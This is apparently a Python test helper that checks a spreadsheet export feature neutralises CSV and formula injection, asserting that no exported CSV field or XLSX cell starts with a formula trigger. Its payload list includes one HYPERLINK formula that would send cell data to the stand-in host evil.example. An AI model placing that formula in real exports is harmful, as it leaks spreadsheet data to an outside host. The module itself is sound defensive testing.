"""What every export test asserts: no cell of a file we wrote would run as a formula.

`DANGEROUS` is what a person could type into a directorate, action or evidence note (OWASP's
triggers: `=`, `+`, `-`, `@`, tab, carriage return).
"""

from __future__ import annotations

import csv
import io
import re

from openpyxl import load_workbook

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tx",
    "\rx",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^-?\d+(\.\d+)?$")


def runs_as_formula(field: str) -> bool:
    """A CSV field a spreadsheet would run: starts with a trigger and is not a plain number."""
    return field.startswith(TRIGGERS) and not _NUMBER.match(field)


def csv_rows(data: bytes | str) -> list[list[str]]:
    text = data.decode("utf-8-sig") if isinstance(data, bytes) else data
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert_csv(data: bytes | str) -> list[list[str]]:
    rows = csv_rows(data)
    live = [field for row in rows for field in row if runs_as_formula(field)]
    assert live == [], f"CSV fields a spreadsheet would run: {live}"
    return rows


def assert_inert_xlsx(data: bytes):
    """Every sheet: no formula cell, no text cell starting with a trigger. Returns the workbook."""
    workbook = load_workbook(io.BytesIO(data))
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(TRIGGERS), (
                        f"{sheet.title}!{cell.coordinate} starts a formula: {cell.value!r}"
                    )
    return workbook
